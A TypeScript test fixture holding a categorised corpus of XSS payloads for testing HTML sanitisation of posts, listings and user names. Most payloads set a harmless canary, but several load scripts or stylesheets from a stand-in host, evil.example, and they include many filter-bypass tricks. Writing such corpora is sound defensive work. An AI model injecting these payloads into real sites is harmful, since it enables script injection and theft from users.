/**
 * Hostile HTML for every place users' text reaches other people's screens: post
 * content (sanitised to the editor's vocabulary), listing names and descriptions,
 * and user names (text). Plain TypeScript with no test-runner imports, so the API
 * tests (Vitest) and the browser tests (Playwright) share it.
 *
 * A payload that "works" sets window.__xss (the canary the browser test watches)
 * or opens a dialog (alert/confirm/prompt/print), which the browser test also fails on.
 */

export const CANARY = 'window.__xss=1';

export interface XssPayload {
  /** Stable, unique name for reports: category and number. */
  name: string;
  category: XssCategory;
  html: string;
}

export type XssCategory =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'other-scheme'
  | 'svg'
  | 'mathml'
  | 'frame'
  | 'object'
  | 'form'
  | 'meta-base-link'
  | 'style'
  | 'mutation'
  | 'broken-markup'
  | 'clobbering';

const C = CANARY;

const RAW: Record<XssCategory, string[]> = {
  script: [
    `<script>${C}</script>`,
    `<SCRIPT>${C}</SCRIPT>`,
    `<ScRiPt>${C}</sCrIpT>`,
    `<script type="text/javascript">${C}</script>`,
    `<script type="module">${C}</script>`,
    `<script src="data:text/javascript,${C}"></script>`,
    `<script src=//evil.example/x.js></script>`,
    `<script/src="data:,${C}"></script>`,
    `<script\n>${C}</script\n>`,
    `<script\t>${C}</script>`,
    `<script >${C}</script >`,
    `<script x>${C}</script y>`,
    `<scr<script>ipt>${C}</scr</script>ipt>`,
    `<<script>script>${C}<</script>/script>`,
    `<script>${C}//`,
    `<script>${C}<!--`,
    `<script><!--\n${C}\n//--></script>`,
    `<script>/*</script><script>*/${C}</script>`,
    `<p><script>alert(1)</script>text</p>`,
    `<script defer async>${C}</script>`,
    `<script charset="utf-7">${C}</script>`,
    `+ADw-script+AD4-${C}+ADw-/script+AD4-`,
    `<script>\u2028${C}</script>`,
  ],
  'event-handler': [
    `<img src=x onerror="${C}">`,
    `<img src=x onerror=${C}>`,
    `<IMG SRC=x ONERROR="${C}">`,
    `<img src="x" onerror  =  "${C}">`,
    `<img src=x onerror="&#119;indow.__xss=1">`,
    `<img src=x onerror="window&#46;__xss=1">`,
    `<img src=x:alert(1) onerror=eval(src)>`,
    `<img/src/onerror=${C}>`,
    `<img src=x onerror=alert(1)//`,
    `<img src="/images/nothing-here.webp" onload="${C}" onerror="${C}">`,
    `<body onload="${C}">`,
    `<body onpageshow="${C}">`,
    `<input autofocus onfocus="${C}">`,
    `<select autofocus onfocus="${C}"></select>`,
    `<textarea autofocus onfocus="${C}"></textarea>`,
    `<details open ontoggle="${C}"><summary>x</summary></details>`,
    `<video src=x onerror="${C}"></video>`,
    `<video><source onerror="${C}"></video>`,
    `<audio src=x onerror="${C}"></audio>`,
    `<marquee onstart="${C}">x</marquee>`,
    `<p onclick="${C}">click</p>`,
    `<p onmouseover="${C}">hover</p>`,
    `<a href="https://example.com" onmouseover="${C}">link</a>`,
    `<h1 onpointerenter="${C}">h</h1>`,
    `<strong onanimationstart="${C}" style="animation:spin 1s">s</strong>`,
    `<div style="transition:all 1s" ontransitionend="${C}">t</div>`,
    `<img src=x ONerror="${C}">`,
    `<img src=x onerror\n="${C}">`,
    `<img src=x o\u0000nerror="${C}">`,
    `<blockquote onfocusin="${C}" tabindex=1 autofocus>q</blockquote>`,
    `<li onbeforeprint="${C}">l</li>`,
    `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="${C}"></iframe>`,
    `<img src=x onerror=top['al'+'ert'](1)>`,
    `<img src=x onerror=print()>`,
  ],
  'javascript-url': [
    `<a href="javascript:${C}">a</a>`,
    `<a href="JavaScript:${C}">a</a>`,
    `<a href=" javascript:${C}">a</a>`,
    `<a href="\tjavascript:${C}">a</a>`,
    `<a href="java\tscript:${C}">a</a>`,
    `<a href="java\nscript:${C}">a</a>`,
    `<a href="java\rscript:${C}">a</a>`,
    `<a href="&#106;avascript:${C}">a</a>`,
    `<a href="&#x6A;avascript:${C}">a</a>`,
    `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${C}">a</a>`,
    `<a href="javascript&colon;${C}">a</a>`,
    `<a href="javascript&#58;${C}">a</a>`,
    `<a href="javascript&#x3a;${C}">a</a>`,
    `<a href="jav&#x09;ascript:${C}">a</a>`,
    `<a href="jav&#x0A;ascript:${C}">a</a>`,
    `<a href="jav&Tab;ascript:${C}">a</a>`,
    `<a href="javas&NewLine;cript:${C}">a</a>`,
    `<a href="&#1;javascript:${C}">a</a>`,
    `<a href="\u0001javascript:${C}">a</a>`,
    `<a href="javascript://%0a${C}">a</a>`,
    `<a href='javascript:${C}'>a</a>`,
    `<a href=javascript:${C}>a</a>`,
    `<a href="javascript:void(0)" onclick="${C}">a</a>`,
    `<img src="javascript:${C}">`,
    `<iframe src="javascript:${C}"></iframe>`,
    `<a href="%6a%61%76%61%73%63%72%69%70%74:${C}">a</a>`,
    `<a href="javascript\u0000:${C}">a</a>`,
    `<a href="   &#x20;javascript:${C}">a</a>`,
  ],
  'other-scheme': [
    `<a href="vbscript:msgbox(1)">v</a>`,
    `<a href="VBScript:msgbox(1)">v</a>`,
    `<a href="data:text/html,<script>${C}</script>">d</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">d</a>`,
    `<a href="DATA:text/html,<script>${C}</script>">d</a>`,
    `<a href="&#100;ata:text/html,<script>${C}</script>">d</a>`,
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=">`,
    `<img src="data:text/html,<script>${C}</script>">`,
    `<img src="data:image/png;base64,<script>">`,
    `<a href="file:///etc/passwd">f</a>`,
    `<a href="livescript:${C}">l</a>`,
    `<a href="blob:https://evil.example/x">b</a>`,
    `<a href="//evil.example/x">protocol-relative</a>`,
    `<img src="//evil.example/x.png">`,
    `<a href="/\\evil.example/x">backslash</a>`,
  ],
  svg: [
    `<svg onload="${C}">`,
    `<svg/onload=${C}>`,
    `<svg><script>${C}</script></svg>`,
    `<svg><script xlink:href="data:,${C}"></script></svg>`,
    `<svg><a xlink:href="javascript:${C}"><text x="20" y="20">x</text></a></svg>`,
    `<svg><a href="javascript:${C}"><circle r="40"/></a></svg>`,
    `<svg><animate onbegin="${C}" attributeName="x" dur="1s">`,
    `<svg><set attributeName="onmouseover" to="${C}"/></svg>`,
    `<svg><a><animate attributeName="href" values="javascript:${C}"/><text y="20">a</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${C}'/&gt;&lt;/svg&gt;#x"/></svg>`,
    `<svg><foreignObject><img src=x onerror="${C}"></foreignObject></svg>`,
    `<svg><image href="x" onerror="${C}"/></svg>`,
    `<svg><style>@import url(data:,x)</style><img src=x onerror="${C}"></svg>`,
    `<svg><title><img src=x onerror="${C}"></title></svg>`,
    `<svg><desc><![CDATA[</desc><img src=x onerror="${C}">]]></desc></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${C}</handler></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><g onload="${C}"></g></svg>`,
  ],
  mathml: [
    `<math><maction actiontype="statusline" xlink:href="javascript:${C}">click</maction></math>`,
    `<math href="javascript:${C}"><mi>x</mi></math>`,
    `<math><mi xlink:href="javascript:${C}">x</mi></math>`,
    `<math><mtext><img src=x onerror="${C}"></mtext></math>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${C}"></style></mglyph></table></mtext></math>`,
    `<math><mtext><h1><a><mglyph><style><img src=x onerror="${C}">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${C}"></annotation-xml></math>`,
    `<math><mi><malignmark><style><img src=x onerror="${C}">`,
    `<math><style><img src=x onerror="${C}"></style></math>`,
  ],
  frame: [
    `<iframe srcdoc="<script>${C}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=${C}&gt;"></iframe>`,
    `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>${C}</script>"></iframe>`,
    `<iframe src="data:text/html,<script>${C}</script>"></iframe>`,
    `<iframe src="https://evil.example/embed/x"></iframe>`,
    `<iframe src="https://www.youtube.com.evil.example/embed/abcdefghijk"></iframe>`,
    `<iframe src="https://www.youtube.com/embed/abcdefghijk/../../../redirect?q=javascript:1"></iframe>`,
    `<iframe src="http://player.vimeo.com/video/1234"></iframe>`,
    `<iframe src="/api/post/all"></iframe>`,
    `<frameset><frame src="javascript:${C}"></frameset>`,
    `<iframe src=" javascript:${C}"></iframe>`,
    `<portal src="https://evil.example"></portal>`,
  ],
  object: [
    `<object data="javascript:${C}"></object>`,
    `<object data="data:text/html,<script>${C}</script>"></object>`,
    `<object type="text/html" data="https://evil.example"><param name="x" value="y"></object>`,
    `<embed src="javascript:${C}">`,
    `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIj48L3N2Zz4=" type="image/svg+xml">`,
    `<applet code="x.class"></applet>`,
    `<object><img src=x onerror="${C}"></object>`,
  ],
  form: [
    `<form action="javascript:${C}"><button>go</button></form>`,
    `<form><button formaction="javascript:${C}">go</button></form>`,
    `<button formaction="javascript:${C}">go</button>`,
    `<input type="image" src="x" onerror="${C}">`,
    `<input type="submit" formaction="javascript:${C}" value="go">`,
    `<form id="f"></form><button form="f" formaction="javascript:${C}">go</button>`,
    `<isindex type=image src=1 onerror="${C}">`,
    `<keygen autofocus onfocus="${C}">`,
    `<form><input name="password" type="password"></form>`,
  ],
  'meta-base-link': [
    `<meta http-equiv="refresh" content="0;url=javascript:${C}">`,
    `<meta http-equiv="refresh" content="0; url=data:text/html,<script>${C}</script>">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<meta charset="utf-7">`,
    `<base href="javascript:${C}//">`,
    `<base href="https://evil.example/">`,
    `<link rel="stylesheet" href="https://evil.example/x.css">`,
    `<link rel="import" href="data:text/html,<script>${C}</script>">`,
    `<link rel="preload" as="script" href="https://evil.example/x.js">`,
  ],
  style: [
    `<style>body{background:url("javascript:${C}")}</style>`,
    `<style>@import "https://evil.example/x.css";</style>`,
    `<style>*{x:expression(${C})}</style>`,
    `<p style="background:url(javascript:${C})">s</p>`,
    `<p style="width:expression(${C})">s</p>`,
    `<p style="-moz-binding:url(https://evil.example/x.xml#x)">s</p>`,
    `<p style="behavior:url(x.htc)">s</p>`,
    `<p style="position:fixed;inset:0;z-index:9999;background:red">overlay</p>`,
    `<img src="https://example.com/x.png" style="position:fixed;top:0;left:0;width:100vw;height:100vh">`,
    `<p style="background-image:\\75\\72\\6c(javascript:${C})">s</p>`,
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${C}">a</p>`,
    `<p class="ql-align-center fixed inset-0 z-50 bg-red-600">classes</p>`,
    `<div style="font-size:10000px">big</div>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=x onerror=${C}>"></noscript>`,
    `<template><img src=x onerror="${C}"></template>`,
    `<template><script>${C}</script></template>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${C}>">`,
    `<svg><p><style><img src=x onerror="${C}"></style></p></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${C}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${C}>`,
    `<xmp><img src=x onerror="${C}"></xmp>`,
    `<noembed><img src=x onerror="${C}"></noembed>`,
    `<noframes><img src=x onerror="${C}"></noframes>`,
    `<plaintext><img src=x onerror="${C}">`,
    `<textarea><img src=x onerror="${C}"></textarea>`,
    `<title><img src=x onerror="${C}"></title>`,
    `<iframe><img src=x onerror="${C}"></iframe>`,
    `<select><template><img src=x onerror="${C}"></template></select>`,
    `<table><img src=x onerror="${C}"></table>`,
    `<a href="https://example.com"><table><a href="javascript:${C}">x</a></table></a>`,
    `<p><style></p><img src=x onerror="${C}"></style>`,
    `<pre><img src=x onerror="${C}"></pre>`,
    `<pre>&lt;img src=x onerror=${C}&gt;</pre>`,
    `<p>&lt;script&gt;${C}&lt;/script&gt;</p>`,
    `<!--<img src="--><img src=x onerror="${C}"//">`,
    `<!-- --!><img src=x onerror="${C}"> -->`,
    `<![CDATA[><img src=x onerror="${C}">]]>`,
    `<?xml version="1.0"?><img src=x onerror="${C}">`,
    `<!DOCTYPE html><img src=x onerror="${C}">`,
    `<img src="x` + '`' + ` onerror="${C}">`,
    `<a title="a&quot; onmouseover=&quot;${C}">q</a>`,
    `<h1 class="ql-align-center&quot; onclick=&quot;${C}">h</h1>`,
  ],
  'broken-markup': [
    `"><script>${C}</script>`,
    `'><img src=x onerror="${C}">`,
    `</title><script>${C}</script>`,
    `</textarea><script>${C}</script>`,
    `</style><script>${C}</script>`,
    `</script><script>${C}</script>`,
    `<img src=x onerror=${C}`,
    `<img src="x" onerror="${C}"`,
    `<a href="javascript:${C}"`,
    `<<img src=x onerror="${C}">>`,
    `<img """><script>${C}</script>">`,
    `<img src=x onerror="${C}"/ >`,
    `<p <img src=x onerror="${C}">>`,
    `<a/href="javascript:${C}">a</a>`,
    `<a href=javascript&colon;${C}>a`,
    `<div><p><h1><ul><li><blockquote><pre><img src=x onerror="${C}">`,
    `</p></div></body></html><script>${C}</script>`,
    `<img src=x onerror="${C}"\u0000>`,
    `<img\u000csrc=x\u000conerror="${C}">`,
    `<img src=x onerror=&#x77;indow.__xss=1>`,
    `<p>${'<strong>'.repeat(300)}deep${'</strong>'.repeat(300)}</p>`,
  ],
  clobbering: [
    `<img name="__xss" src="https://example.com/x.png">`,
    `<a id="__xss" href="https://example.com">c</a>`,
    `<form name="__xss"></form>`,
    `<img name="getElementById">`,
    `<a id="root" href="https://example.com">root</a>`,
    `<p id="__xss">x</p>`,
    `<iframe name="__xss" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
    `<object name="__xss"></object>`,
    `<embed name="__xss">`,
  ],
};

export const XSS_CORPUS: readonly XssPayload[] = Object.entries(RAW).flatMap(([category, items]) =>
  items.map((html, i) => ({ name: `${category}-${i + 1}`, category: category as XssCategory, html })),
);

/** Splits the corpus into groups of `size` (several payloads per post keeps browser runs short). */
export function corpusBatches(size: number, corpus: readonly XssPayload[] = XSS_CORPUS): XssPayload[][] {
  const batches: XssPayload[][] = [];
  for (let i = 0; i < corpus.length; i += size) batches.push(corpus.slice(i, i + size));
  return batches;
}

/** Elements a rendered post may contain; anything else in it is a sanitiser failure. */
export const RENDERED_POST_ELEMENTS = [
  'p', 'br', 'h1', 'h2', 'strong', 'em', 'u', 's', 'blockquote', 'pre', 'ol', 'ul', 'li', 'a', 'img', 'iframe',
] as const;

/** Elements that must never appear where user text is rendered, whatever the screen. */
export const FORBIDDEN_ELEMENTS = ['script', 'object', 'embed', 'form', 'style', 'meta', 'base', 'svg', 'math', 'link', 'frame', 'frameset', 'applet', 'template', 'noscript', 'input', 'button', 'textarea', 'select', 'portal'] as const;
